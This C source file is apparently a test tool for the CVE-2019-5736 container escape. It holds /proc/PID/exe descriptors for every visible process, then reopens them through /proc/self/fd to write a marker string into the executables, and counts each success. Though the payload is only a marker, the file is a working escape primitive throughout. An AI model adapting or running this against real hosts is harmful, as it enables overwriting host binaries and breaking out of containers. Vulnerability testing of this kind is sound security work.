// Inside a container: tries to overwrite the executable of every process that it sees,
// CVE-2019-5736. Each second it says how many it got hold of and how many it could write to; a line
// on stdin ends it.
//
//   overwrite_exe

#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define HELD 256

static int held[HELD];
static ino_t inodes[HELD];
static int seen, written;

// A descriptor for reading keeps the file within reach when the process is no more; while it runs,
// it is busy.
static void get_hold(const char* pid) {
  char path[300];
  struct stat stat;
  snprintf(path, sizeof path, "/proc/%s/exe", pid);
  const int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return;
  for (int i = 0; fstat(fd, &stat) == 0 && i < seen; i++) {
    if (inodes[i] != stat.st_ino) continue;
    close(fd);
    return;
  }
  if (seen == HELD) return;
  inodes[seen] = stat.st_ino;
  held[seen++] = fd;
}

static void overwrite(int* fd) {
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", *fd);
  const int out = open(path, O_WRONLY | O_CLOEXEC);
  if (out < 0) return;
  if (write(out, "overwritten", 11) == 11) written++;
  close(out);
  close(*fd);
  *fd = -1;
}

int main(void) {
  struct stat self;
  if (stat("/proc/self/exe", &self) == 0) {
    inodes[seen] = self.st_ino;
    held[seen++] = -1;
  }
  printf("ready\n");
  fflush(stdout);
  struct pollfd told = {.fd = 0, .events = POLLIN};
  while (poll(&told, 1, 0) == 0) {
    DIR* processes = opendir("/proc");
    for (struct dirent* entry; processes && (entry = readdir(processes));) {
      if (isdigit((unsigned char)entry->d_name[0])) get_hold(entry->d_name);
    }
    if (processes) closedir(processes);
    for (int i = 0; i < seen; i++) {
      if (held[i] >= 0) overwrite(&held[i]);
    }
  }
  printf("seen %d written %d\n", seen - 1, written);
  return 0;
}
